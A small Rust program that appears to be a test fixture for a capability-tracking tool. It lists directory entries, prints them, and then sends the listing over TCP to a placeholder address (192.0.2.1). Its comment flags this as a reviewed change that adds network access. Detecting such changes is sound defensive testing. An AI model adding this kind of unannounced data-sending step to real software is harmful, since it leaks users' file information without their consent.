// The lister of test/lit/cargo/Inputs/registry after a change under review:
// it now reports the listing to a server, which gains it NETWORK.
cfg_if::cfg_if! {
    if #[cfg(unix)] {
        fn root() -> &'static str { "." }
    } else {
        fn root() -> &'static str { "C:\\" }
    }
}

fn main() {
    let mut buffer = itoa::Buffer::new();
    let mut listing = String::new();
    for entry in walkdir::WalkDir::new(root()).max_depth(1) {
        if let Ok(entry) = entry {
            listing.push_str(&format!("{} {}\n", buffer.format(entry.depth()), entry.path().display()));
        }
    }
    print!("{listing}");
    if let Ok(mut server) = std::net::TcpStream::connect("192.0.2.1:80") {
        let _ = std::io::Write::write_all(&mut server, listing.as_bytes());
    }
}
